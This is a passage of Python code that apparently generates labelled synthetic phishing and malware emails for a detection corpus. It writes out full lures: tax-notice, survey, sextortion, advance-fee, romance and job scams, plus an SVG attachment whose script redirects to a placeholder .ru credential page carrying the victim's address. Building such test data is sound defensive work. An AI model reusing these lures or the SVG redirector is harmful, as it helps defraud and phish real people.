    plain = ("Hello,\n\nThe IRS has issued a CP2000 notice proposing changes to your 2024 tax return due to unreported income. "
             "We prepared the attached copy of the notice and your tax transcript for your review.\n\nPlease open the document "
             "and respond by April 4 to avoid additional penalties and interest.\n\nBest regards,\n\nJoanne Carroll, EA\n"
             "Carroll Bookkeeping & Tax Services\n(417) 555-0192\n")
    html = ('<div dir="ltr">Hello,<div><br></div><div>The IRS has issued a CP2000 notice proposing changes to your 2024 tax '
            'return due to unreported income. We prepared the attached copy of the notice and your tax transcript for your '
            'review.</div><div><br></div><div>Please open the document and respond by <b>April 4</b> to avoid additional '
            'penalties and interest.</div><div><br></div><div>Best regards,</div><div><br></div><div><span class="gmail_signature">'
            'Joanne Carroll, EA<br>Carroll Bookkeeping &amp; Tax Services<br>(417) 555-0192</span></div></div>\n')
    bd = rid(stem + "bd", 16)
    body = Multi("mixed", f"000000000000{rid(stem + 'bm', 16)}", [
        Multi("alternative", f"000000000000{bd}", [
            Leaf("text/plain", plain.encode(), "7bit", '; charset="UTF-8"'),
            Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')]),
        Leaf("application/x-zip-compressed", z, "base64", '; name="IRS_CP2000_Notice_2024.zip"',
             'attachment; filename="IRS_CP2000_Notice_2024.zip"', [f"X-Attachment-Id: f_m{rid(stem + 'xa', 8, ALNUM.lower())}0",
                                                                   f"Content-ID: <f_m{rid(stem + 'xa', 8, ALNUM.lower())}0>"])])
    head = f"""MIME-Version: 1.0
From: {addr("Joanne Carroll", sender)}
Date: {rfc(d, ZoneInfo("America/Chicago"))}
Message-ID: {gmail_msgid(stem)}
Subject: IRS CP2000 Notice - 2024 Tax Year - Action Required
To: {A}
"""
    mail(stem, "malware", "IRS CP2000 notice 'prepared by your bookkeeper' from a compromised Google Workspace mailbox of a "
         "small tax firm, attaching a zip with a .pdf.lnk shortcut that would launch mshta against a remote HTA.",
         to=A, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom=dom, dkims=[(dom, "google", "pass")],
         dmarc=("pass", "NONE"), head=head, body=body, hops=fix_to(hops, A),
         sign=[(dom, "google", {"headers": "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def a_costco_survey():
    stem = f"b{N}-phish-costco-survey"
    at = "2025-05-31 02:18:33"
    d = when(at) - timedelta(seconds=3)
    dom = "kpvnotice-hub.autos"
    landing = f"costco-memberclub.shop/rwd/?c={rid(stem + 'c', 10, ALNUM)}&amp;s=gm"
    url = f"https://www.google.com/amp/s/{landing}"
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#eeeeee;">
<div style="display:none;max-height:0;overflow:hidden;">Your loyalty reward is waiting - confirm before midnight &#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:16px;">
<table width="540" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;">
<tr><td align="center" style="background:#005daa;padding:16px;"><b style="color:#fff;font-size:26px;">COSTCO</b><br><span style="color:#e31837;font-size:13px;font-weight:bold;background:#fff;padding:1px 5px;">WHOLESALE</span></td></tr>
<tr><td align="center" style="padding:24px 26px 8px 26px;font-size:22px;font-weight:bold;color:#333;">Congratulations! You've been selected</td></tr>
<tr><td align="center" style="padding:8px 30px;font-size:15px;line-height:22px;color:#444;">To celebrate our anniversary, Costco members
have been chosen to receive a <b>Ninja Foodi 10-in-1 Air Fryer</b>. Answer 4 quick questions about your shopping experience to claim yours.
Just pay shipping.</td></tr>
<tr><td align="center" style="padding:14px;"><a href="{url}"><img src="https://{landing.split('/')[0]}/img/ninja.png" width="300" alt="Claim your reward" style="border:0;"></a></td></tr>
<tr><td align="center" style="padding:6px 30px 26px 30px;"><a href="{url}" style="background:#e31837;color:#fff;padding:14px 40px;font-size:17px;font-weight:bold;text-decoration:none;border-radius:4px;">START SURVEY &gt;&gt;</a></td></tr>
</table>
<table width="540" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;font-size:10px;color:#999;"><tr><td style="padding:20px;">
This is an independent survey and is not affiliated with or endorsed by the brand. If you no longer wish to receive these messages,
<a href="https://{dom}/u/{rid(stem + 'u', 20, ALNUM)}" style="color:#999;">unsubscribe here</a> or write to 1942 Broadway St. STE 314C Boulder CO 80302.</td></tr></table>
</td></tr></table></body></html>
"""
    plain = (f"Congratulations! You've been selected.\n\nCostco members have been chosen to receive a Ninja Foodi 10-in-1 Air "
             f"Fryer. Answer 4 quick questions to claim yours.\n\nSTART SURVEY: {url.replace('&amp;', '&')}\n\n"
             f"Unsubscribe: https://{dom}/u/{rid(stem + 'u', 20, ALNUM)}\n")
    head = f"""From: {addr("Costco Member Rewards", "rewards@" + dom)}
To: {G}
Subject: {b_subject("Gordon, you've been selected 🎁 Costco Anniversary Reward #" + rid(stem + 'n', 5, DIGITS))}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 32)}@{dom}>
{list_unsub(f"https://{dom}/u/{rid(stem + 'u', 20, ALNUM)}", f"unsub-{rid(stem + 'um', 10)}@{dom}")}
MIME-Version: 1.0
"""
    body = Multi("alternative", f"--=_{rid(stem + 'bd', 24)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=utf-8"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")])
    mail(stem, "phishing", "Costco 'you've been selected for a free air fryer' survey scam from a snowshoe .autos domain with "
         "aligned SPF/DKIM, linking through a google.com/amp redirect to a pay-shipping card-theft page.",
         to=G, at=at, ip="104.168.77.53", rdns=f"mta{rid(stem + 'mta', 2, DIGITS)}.{dom}", helo=f"mta{rid(stem + 'mta', 2, DIGITS)}.{dom}",
         mailfrom=f"bounce-{rid(stem + 'bnc', 12)}@{dom}", spf="pass", from_dom=dom, dkims=[(dom, "k1", "pass")],
         dmarc=("pass", "NONE"), head=head, body=body)


def a_walmart_azure():
    stem = f"b{N}-phish-walmart-azure"
    at = "2024-12-27 01:40:19"
    d = when(at) - timedelta(seconds=2)
    dom = "shopperfeedback-zone.shop"
    url = (f"https://{rid(stem + 'st', 10, 'abcdefghijklmnopqrstuvwxyz0123456789')}.z13.web.core.windows.net/"
           f"?wm={rid(stem + 'wm', 12, ALNUM)}")
    html = f"""<html><body style="font-family:Arial,sans-serif;background:#f2f8fd;margin:0;">
<center><table width="520" style="background:#fff;margin-top:14px;" cellpadding="0" cellspacing="0">
<tr><td align="center" style="background:#0071dc;padding:14px;"><b style="color:#fff;font-size:24px;">Walmart</b> <span style="color:#ffc220;font-size:22px;">&#10038;</span></td></tr>
<tr><td align="center" style="padding:22px;font-size:20px;font-weight:bold;">Your opinion is worth $100!</td></tr>
<tr><td align="center" style="padding:0 26px 16px 26px;font-size:15px;line-height:22px;">Dear Walmart Shopper, you have been chosen to take
part in our 30-second year-end survey. Complete it today and receive a <b>$100 Walmart Gift Card</b>.</td></tr>
<tr><td align="center" style="padding:10px 0 26px 0;"><a href="{url}" style="background:#ffc220;color:#000;padding:12px 34px;border-radius:24px;font-weight:bold;text-decoration:none;">Begin Survey</a></td></tr>
</table>
<div style="font-size:9px;color:#b9c8d6;max-width:520px;padding:20px;">{' '.join(['lantern', 'cobalt', 'meadow', 'ripple', 'saffron', 'quartz', 'thimble', 'juniper'] * 3)}</div>
<p style="font-size:10px;color:#777;">To stop receiving these offers <a href="https://{dom}/out.php?e={b64email(A)}" style="color:#777;">click here</a>.<br>3120 W Carefree Hwy Ste 1-642, Phoenix AZ 85086</p>
</center></body></html>
"""
    head = f"""Subject: RE: Walmart Shopper - Claim Your $100 Reward (#{rid(stem + 'n', 6, DIGITS)})
From: {addr("Walmart Survey", "wmsurvey@" + dom)}
To: {A}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 20, DIGITS)}@{dom}>
List-Unsubscribe: <https://{dom}/out.php?e={b64email(A)}>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "Walmart '$100 gift card survey' scam with a fake 'RE:' subject and hidden filler words, sent from "
         "a snowshoe .shop domain and linking to an Azure Storage static website.",
         to=A, at=at, ip="23.94.151.208", rdns=None, helo=f"mail.{dom}", mailfrom="wmsurvey@" + dom, spf="pass",
         from_dom=dom, head=head, body=body)


def a_sextortion():
    stem = f"b{N}-phish-sextortion-selfspoof"
    at = "2025-08-12 04:27:55"
    d = when(at) - timedelta(seconds=6)
    btc = "bc1q" + rid(stem + "btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
    plain = f"""Hello!

I have very bad news for you.
{(d - timedelta(days=93)).strftime('%d/%m/%Y')} - on this day I hacked your operating system and got full access to your account {P}
As you can see, I sent you this email from your own account.

So, you can change the password, yes... But my malware intercepts it every time.

How I made it: In the software of the router, through which you went online, was a vulnerability. I just hacked this
router and placed my malicious code on it. When you went online, my trojan was installed on the OS of your device.

After that, I made a full dump of your disk (I have all your address book, history of viewing sites, all files, phone
numbers and addresses of all your contacts).

A month ago, I wanted to lock your device and ask for a small amount of money to unlock. But I looked at the sites that
you regularly visit, and I was shocked by what I saw!!! I made a video of you using your camera, combined with what you
were watching on the screen. Ha-ha! You know what I mean.

I'm sure you don't want to show these videos to your family and colleagues. I think $1350 is a very small amount for my
silence. I've been watching you for a long time.

Pay in Bitcoin to my wallet: {btc}

If you do not know how to do this - ask Google.

After receiving the payment, I will remove the video and you will never hear from me again. You have 50 hours (2 days)
to pay. I have a notice reading this letter, and the timer will work when you see this letter.

Filing a complaint somewhere does not make sense because this email cannot be tracked like my bitcoin address. I do not
make any mistakes.

If I find that you have shared this message with someone else, the video will be immediately distributed.

Best regards!
"""
    head = f"""From: {P}
To: {P}
Subject: {b_subject("Security Alert. " + P + " has been hacked. Change your password immediately!")}
Date: {rfc(d, ZoneInfo("Asia/Ho_Chi_Minh"))}
Message-ID: <{rid(stem + 'mid', 5, DIGITS)}{rid(stem + 'mid2', 6, UPNUM)}.{rid(stem + 'mid3', 12, DIGITS)}@whitlock.me.uk>
X-Priority: 3
X-MSMail-Priority: Normal
X-Mailer: Microsoft Outlook Express 6.00.2900.5512
X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.5512
MIME-Version: 1.0
"""
    body = Leaf("text/plain", plain.encode(), "7bit", '; charset="utf-8"')
    mail(stem, "phishing", "Sextortion email spoofing the recipient's own address (From = To, SPF fail, DMARC fail) claiming "
         "a hacked router and webcam video and demanding $1350 in Bitcoin.",
         to=P, at=at, ip="14.241.226.195", rdns="static.vnpt.vn", helo="[14.241.226.195]", mailfrom=P, spf="fail",
         from_dom="whitlock.me.uk", dmarc=("fail", "NONE"), head=head, body=body, tls=False)


def a_svg_remittance():
    stem = f"b{N}-phish-svg-remittance"
    at = "2025-06-11 14:47:26"
    d = when(at) - timedelta(seconds=4)
    tenant = "brightwellconstruction.co.uk"
    ip, host, hops = m365_out(stem, tenant, d, "lo2gbr01")
    dest = f"https://remit-secure-viewer.{rid(stem + 'd', 6, 'abcdefghijklmnopqrstuvwxyz')}.ru/?{rid(stem + 'q', 8)}"
    payload = base64.b64encode(dest.encode()).decode()
    svg = f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" viewBox="0 0 800 600">
<rect width="800" height="600" fill="#f3f2f1"/>
<text x="400" y="280" font-family="Segoe UI, Arial" font-size="22" text-anchor="middle" fill="#323130">Loading remittance document...</text>
<text x="400" y="320" font-family="Segoe UI, Arial" font-size="14" text-anchor="middle" fill="#605e5c">Secured by Microsoft 365</text>
<script type="text/javascript"><![CDATA[
var k="{b64email(H)}";var t=atob("{payload}");
setTimeout(function(){{window.location.href=t+"#"+k;}},600);
]]></script>
</svg>
"""
    plain = ("Hi,\r\n\r\nPlease find attached the remittance advice for the payment released today (GBP 8,460.00).\r\n\r\n"
             "Kind regards,\r\n\r\nSharon Hale\r\nAccounts Payable\r\nBrightwell Construction Ltd\r\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body dir="ltr">'
            '<div style="font-family:Aptos,Calibri,sans-serif;font-size:11pt;">Hi,<br><br>Please find attached the remittance '
            'advice for the payment released today (GBP 8,460.00).<br><br>Kind regards,<br><br><b>Sharon Hale</b><br>Accounts '
            'Payable<br>Brightwell Construction Ltd</div></body></html>\n')
    boundary = outlook_boundary(stem, "004", "EUR")
    body = Multi("mixed", boundary, [
        Multi("alternative", boundary.replace("_004_", "_000_"), [
            Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="iso-8859-1"'),
            Leaf("text/html", html.encode(), "quoted-printable", '; charset="iso-8859-1"')]),
        attachment("image/svg+xml", f"Remittance_Advice_{d.strftime('%d%m%Y')}.svg", svg.encode())])
    head = f"""From: {addr("Sharon Hale", "s.hale@" + tenant)}
To: {addr("", H)}
Subject: Remittance Advice - Payment Released {d.strftime('%d/%m/%Y')}
Thread-Topic: Remittance Advice - Payment Released {d.strftime('%d/%m/%Y')}
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: {outlook_msgid(stem, 'EUR')}
Accept-Language: en-GB, en-US
Content-Language: en-GB
{m365_tail(stem, tenant, d).replace('X-MS-Has-Attach: ', 'X-MS-Has-Attach: yes', 1)}
MIME-Version: 1.0
"""
    mail(stem, "phishing", "Remittance-advice lure from a compromised UK construction firm's Microsoft 365 mailbox with an "
         "SVG attachment whose embedded script redirects to a credential page, passing the victim's address in the fragment.",
         to=H, at=at, ip=ip, rdns=host, helo=host, mailfrom="s.hale@" + tenant, spf="pass", from_dom=tenant,
         dkims=[(tenant, "selector1", "pass")], dmarc=("pass", "QUARANTINE"), head=head, body=body, hops=hops,
         sign=[(tenant, "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


# ---------------------------------------------------------------------------------------------------------------
# Attacks, part 4: fraud letters, shares and a hijacked thread
# ---------------------------------------------------------------------------------------------------------------

def a_inheritance():
    stem = f"b{N}-phish-inheritance-letter"
    at = "2024-07-23 10:54:12"
    d = when(at) - timedelta(seconds=5)
    plain = """Dear Whitlock,

I am Barrister Kofi Mensah, a legal practitioner and personal attorney to late Engineer Robert A. Whitlock, a British
national who worked with a mining company here in Lome, Togo. On the 21st of April 2019, my client, his wife and only
daughter were involved in a car accident along Sokode Express Road. All occupants of the vehicle unfortunately lost
their lives.

Since then I have made several enquiries to locate any of my late client's extended relatives, which has proved
unsuccessful. After these several unsuccessful attempts, I decided to track his last name through the internet, which is
why I contacted you.

My late client left behind a deposit valued at Nine Million Five Hundred Thousand British Pounds (GBP 9,500,000.00)
with a finance house here. The finance house has issued me a notice to provide the next of kin or have the account
confiscated within the next fourteen working days.

Since you share the same surname, I seek your consent to present you as the next of kin of my late client so that the
proceeds of this account can be paid to you. We shall share the funds 50% to me and 45% to you, while 5% will be for
expenses incurred during the transaction. All necessary legal documents will be provided to back up your claim.

This transaction is 100% risk free. Please reply to my private email: barristerkofimensah.chambers@gmail.com with your
full names, telephone number and address for more details.

Best regards,
Barrister Kofi Mensah (Esq.)
Mensah & Associates Chambers, Lome - Togo
"""
    head = f"""Date: {rfc(d, ZoneInfo("Africa/Lome"))}
From: {addr("Barrister Kofi Mensah", "info@ssnexports.in")}
Reply-To: barristerkofimensah.chambers@gmail.com
To: undisclosed-recipients:;
Subject: Attention Whitlock - Next of Kin / Inheritance Claim
Message-ID: <{rid(stem + 'mid', 32)}@ssnexports.in>
X-Sender: info@ssnexports.in
User-Agent: Roundcube Webmail/1.6.0
MIME-Version: 1.0
"""
    body = Leaf("text/plain", plain.encode(), "7bit", "; charset=US-ASCII; format=flowed")
    mail(stem, "phishing", "Advance-fee 'next of kin' inheritance letter naming the recipient's surname, sent from a "
         "compromised Indian exporter's Roundcube webmail with a Gmail Reply-To; no links, reply-based fraud.",
         to=Y, at=at, ip="103.211.216.140", rdns="server.ssnexports.in", helo="server.ssnexports.in",
         mailfrom="info@ssnexports.in", spf="pass", from_dom="ssnexports.in", dkims=[("ssnexports.in", "default", "pass")],
         head=head, body=body)


def a_widow_donation():
    stem = f"b{N}-phish-widow-donation"
    at = "2025-09-14 18:05:33"
    d = when(at) - timedelta(seconds=3)
    sender = "margaret.ellison1951@yandex.com"
    plain = """Greetings my beloved,

Please forgive me for reaching out to you in this way. My name is Mrs. Margaret Ellison, a widow to late Mr. Harold
Ellison, an oil contractor in Texas. I am 74 years old and I am presently in a hospice in Houston due to advanced stage
pancreatic cancer. My doctors have told me that I may not live beyond the next few weeks.

We had no children, and I have decided to donate the sum of $4.8 million which my late husband left in a fixed deposit
account to a God fearing person who will use it for charity work, orphanages and the less privileged, as my husband
wished.

I selected you after prayer and I believe you will honour this last wish. Please reply to me at my private email
(margaret.ellison@proton.me) so that I can give you the contact of my lawyer who will arrange the transfer.

May God bless you,
Mrs. Margaret Ellison
"""
    head = f"""From: {addr("Mrs. Margaret Ellison", sender)}
Reply-To: margaret.ellison@proton.me
To: {A}
Subject: My last wish, please read
Date: {rfc(d, ZoneInfo("Europe/Moscow"))}
Message-Id: <{rid(stem + 'mid', 7, DIGITS)}{int(d.timestamp())}@mail.yandex.com>
X-Mailer: Yamail [ http://yandex.ru ] 5.0
MIME-Version: 1.0
"""
    body = Leaf("text/plain", plain.encode(), "7bit", "; charset=utf-8")
    mail(stem, "phishing", "Dying-widow charity donation advance-fee letter ($4.8 million) from a Yandex freemail account with "
         "a Proton Mail Reply-To; text only, reply-based fraud.",
         to=A, at=at, ip="77.88.21.203", rdns="forward203b.mail.yandex.net", helo="forward203b.mail.yandex.net",
         mailfrom=sender, spf="pass", from_dom="yandex.com", dkims=[("yandex.com", "mail", "pass")],
         dmarc=("pass", "NONE"), head=head, body=body,
         hops=[f"Received: from mail-nwsmtp-smtp-production-main-{rid(stem + 'y', 2, DIGITS)}.klg.yp-c.yandex.net "
               f"(mail-nwsmtp-smtp-production-main-{rid(stem + 'y', 2, DIGITS)}.klg.yp-c.yandex.net [IPv6:2a02:6b8:c43:{rid(stem + 'v6', 4)}:0:640:{rid(stem + 'v62', 4)}:0])\n"
               f"\tby forward203b.mail.yandex.net (Yandex) with ESMTPS id {rid(stem + 'yid', 10, ALNUM)}\n\tfor <{A}>; {rfc(d, ZoneInfo('Europe/Moscow'))}"],
         sign=[("yandex.com", "mail", {"headers": "From:Reply-To:To:Subject:Date:Message-Id", "i": sender})])


def a_romance_opener():
    stem = f"b{N}-phish-romance-opener"
    at = "2025-01-05 22:31:40"
    d = when(at) - timedelta(seconds=2)
    sender = "linda.carter_rn@hotmail.com"
    plain = ("Hello dear,\r\n\r\nHow are you today? I hope this mail finds you well. I came across your email in a Christian "
             "friendship directory and I felt in my heart to write to you. My name is Linda, I am 52 years old, a widow and a "
             "nurse currently working with a UN medical team in Yemen. I don't have many friends here and I would love to know "
             "more about you, where you live and what you do.\r\n\r\nI am an honest and caring woman who loves gardening, "
             "cooking and long walks. I am attaching nothing for now, if you reply I will send you my pictures.\r\n\r\n"
             "I am waiting to hear from you.\r\n\r\nLinda\r\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body dir="ltr">'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;">'
            + plain.replace("\r\n\r\n", "</div><div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;\"><br></div>"
                            "<div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;\">").replace("\r\n", "")
            + '</div></body></html>\n')
    ip = f"40.92.{int(rid(stem + 'ip', 2, DIGITS)) % 60 + 20}.{int(rid(stem + 'ip2', 3, DIGITS)) % 250 + 2}"
    rdns = f"mail-{rid(stem + 'h', 1, 'bcd')}m0{rid(stem + 'h2', 1, '24')}olkn{rid(stem + 'h3', 4, DIGITS)}.outbound.protection.outlook.com"
    head = f"""From: {addr("Linda Carter", sender)}
To: {addr("", G)}
Subject: Hello dear
Thread-Topic: Hello dear
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: {outlook_msgid(stem)}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: 
MIME-Version: 1.0
"""
    body = Multi("alternative", outlook_boundary(stem), [
        Leaf("text/plain", plain.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"'),
        Leaf("text/html", html.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"')])
    mail(stem, "phishing", "Romance-scam opener ('widowed UN nurse in Yemen') from a free Hotmail account, no links, "
         "fishing for a reply.",
         to=G, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="hotmail.com",
         dkims=[("hotmail.com", "selector1", "pass")], dmarc=("pass", "NONE"), head=head, body=body,
         sign=[("hotmail.com", "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def a_job_offer():
    stem = f"b{N}-phish-job-offer-edu"
    at = "2025-10-02 15:19:08"
    d = when(at) - timedelta(seconds=2)
    dom = "students.lakeshorecc.edu"
    sender = f"jthompson24@{dom}"
    ip, rdns, hops = gmail_out(stem, d)
    plain = ("Hello,\n\nI hope this email finds you well. I am Dr. Carla Simmons, I got your contact from the alumni directory. "
             "I am currently looking for a reliable part-time personal assistant to help with errands, scheduling and "
             "shopping while I am away on a research project overseas.\n\nThis is a remote role and will take no more than "
             "3-5 hours a week. The weekly pay is $550.\n\nIf you are interested, kindly send the following details to my "
             "personal email (dr.carlasimmons.research@gmail.com):\n\nFull Name:\nAddress:\nCell Phone Number:\nAge:\n"
             "Current occupation:\n\nI look forward to working with you.\n\nBest Regards,\nDr. Carla Simmons\n")
    html = "<div dir=\"ltr\">" + "".join(f"<div>{line}</div>" if line else "<div><br></div>" for line in plain.split("\n")[:-1]) + "</div>\n"
    head = f"""MIME-Version: 1.0
From: {addr("Carla Simmons", sender)}
Date: {rfc(d, ZoneInfo("America/Chicago"))}
Message-ID: {gmail_msgid(stem)}
Subject: Part-Time Job Opportunity ($550 weekly)
To: {addr("", sender)}
Bcc: {C}
"""
    body = Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "7bit", '; charset="UTF-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])
    mail(stem, "phishing", "Fake part-time personal-assistant job ($550 a week) sent Bcc from a compromised US community-"
         "college student Google Workspace account, asking for personal details at a Gmail address (check-fraud setup).",
         to=C, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom=dom.split(".", 1)[1],
         dkims=[(dom.split(".", 1)[1], "google", "pass")], dmarc=("pass", "NONE"), head=head, body=body, hops=fix_to(hops, C),
         sign=[(dom.split(".", 1)[1], "google", {"headers": "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def a_onedrive_compromised():
    stem = f"b{N}-phish-onedrive-share"
    at = "2025-03-11 10:41:22"
    d = when(at) - timedelta(seconds=3)
    tenant = "doylebrennan.co.uk"
    ip, host, hops = m365_out(stem, tenant, d, "lo2gbr01")
    url = (f"https://doylebrennan-my.sharepoint.com/:o:/g/personal/cdoyle_doylebrennan_co_uk/"
           f"E{rid(stem + 'sp', 45, ALNUM + '-_')}?e={rid(stem + 'e', 6, ALNUM)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',-apple-system,Arial,sans-serif;"><tr><td align="center">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd;">
<tr><td style="padding:24px 28px 4px 28px;font-size:13px;color:#605e5c;">Catherine Doyle shared a file with you</td></tr>
<tr><td style="padding:10px 28px;"><table cellpadding="0" cellspacing="0"><tr><td style="width:40px;height:40px;background:#7719aa;color:#fff;text-align:center;font-weight:bold;border-radius:20px;">CD</td>
<td style="padding-left:12px;font-size:15px;color:#323130;">Catherine Doyle shared a file with you</td></tr></table></td></tr>
<tr><td style="padding:8px 28px;font-size:14px;color:#323130;">Please review the attached statement of account and confirm the payment details before Friday. Thanks, Catherine</td></tr>
<tr><td style="padding:14px 28px;"><table cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;width:100%;"><tr>
<td style="padding:12px;width:32px;"><div style="width:28px;height:32px;background:#7719aa;color:#fff;font-size:12px;text-align:center;line-height:32px;">N</div></td>
<td style="padding:12px;font-size:14px;color:#323130;">Statement of Account - Q1 2025</td></tr></table></td></tr>
<tr><td style="padding:10px 28px 22px 28px;"><a href="{url}" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px;">Open</a></td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#605e5c;border-top:1px solid #edebe9;">This link will work for anyone.<br><br>
<span style="font-size:12px;">&#9632;&#9632; Microsoft</span> &nbsp; <a href="https://privacy.microsoft.com/en-gb/privacystatement" style="color:#605e5c;">Privacy Statement</a></td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Catherine Doyle shared a file with you\r\n\r\nPlease review the attached statement of account and confirm the "
             f"payment details before Friday. Thanks, Catherine\r\n\r\nStatement of Account - Q1 2025 <{url}>\r\n\r\n"
             "This link will work for anyone.\r\n\r\nMicrosoft respects your privacy. To learn more, please read our Privacy "
             "Statement <https://privacy.microsoft.com/en-gb/privacystatement>\r\n")
    head = f"""From: {addr("Catherine Doyle", "cdoyle@" + tenant)}
To: {addr("", H)}
Subject: Catherine Doyle shared "Statement of Account - Q1 2025" with you
Thread-Topic: Catherine Doyle shared "Statement of Account - Q1 2025" with you
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: <{rid(stem + 'sp1', 8)}-{rid(stem + 'sp2', 4)}-{rid(stem + 'sp3', 4)}-{rid(stem + 'sp4', 4)}-{rid(stem + 'sp5', 12)}@odspnotify>
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Exchange-Organization-SharingInstanceGuid: {rid(stem + 'sg1', 8)}-{rid(stem + 'sg2', 4)}-{rid(stem + 'sg3', 4)}-{rid(stem + 'sg4', 4)}-{rid(stem + 'sg5', 12)}
{m365_tail(stem, tenant, d)}
MIME-Version: 1.0
"""
    body = Multi("alternative", outlook_boundary(stem, "000", "EUR"), [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="utf-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"')])
    mail(stem, "phishing", "Genuine OneDrive/SharePoint sharing notice from a compromised UK accountancy's Microsoft 365 "
         "account, sharing a OneNote 'Statement of Account' on its real SharePoint that links on to a credential page.",
         to=H, at=at, ip=ip, rdns=host, helo=host, mailfrom="cdoyle@" + tenant, spf="pass", from_dom=tenant,
         dkims=[(tenant, "selector1", "pass")], dmarc=("pass", "QUARANTINE"), head=head, body=body, hops=hops,
         sign=[(tenant, "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def dropbox_share_html(sharer: str, sharer_email: str, fname: str, note: str, url: str) -> str:
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table width="552" cellpadding="0" cellspacing="0" border="0" style="font-family:'Open Sans','Helvetica Neue',Helvetica,Arial,sans-serif;color:#1e1919;">
<tr><td style="padding:28px 0 20px 0;"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34@2x.png" width="34" height="34" alt="Dropbox"></td></tr>
<tr><td style="font-size:16px;line-height:24px;padding-bottom:18px;">Hi Gordon,</td></tr>
<tr><td style="font-size:16px;line-height:24px;padding-bottom:18px;">{sharer} ({sharer_email}) invited you to view the file &ldquo;{fname}&rdquo; on Dropbox.</td></tr>
<tr><td style="font-size:16px;line-height:24px;padding-bottom:18px;color:#637282;">&ldquo;{note}&rdquo;</td></tr>
<tr><td style="padding-bottom:26px;"><a href="{url}" style="background:#0061fe;color:#ffffff;padding:12px 20px;border-radius:4px;font-size:16px;text-decoration:none;display:inline-block;">View file</a></td></tr>
<tr><td style="font-size:16px;line-height:24px;padding-bottom:30px;">Enjoy!<br>The Dropbox team</td></tr>
<tr><td style="font-size:12px;line-height:18px;color:#637282;border-top:1px solid #e6e6e6;padding:20px 0;">
<a href="https://www.dropbox.com/l/{rid(fname + 'unsub', 22, ALNUM)}/account/emails" style="color:#637282;">Manage email notifications</a><br>
&copy; 2025 Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158</td></tr>
</table></td></tr></table></body></html>
"""


def dropbox_mail(stem, folder, desc, *, to, at, sharer, sharer_email, fname, note, kind="scl/fi"):
    d = when(at) - timedelta(seconds=2)
    url = f"https://www.dropbox.com/l/{rid(stem + 'dl', 22, ALNUM)}/{kind}/{rid(stem + 'fi', 21, ALNUM.lower())}/{fname.replace(' ', '%20')}?rlkey={rid(stem + 'rk', 25, ALNUM.lower())}"
    html = dropbox_share_html(sharer, sharer_email, fname, note, url)
    plain = (f"Hi Gordon,\n\n{sharer} ({sharer_email}) invited you to view the file \"{fname}\" on Dropbox.\n\n\"{note}\"\n\n"
             f"View file: {url}\n\nEnjoy!\nThe Dropbox team\n\nManage email notifications: https://www.dropbox.com/account/emails\n")
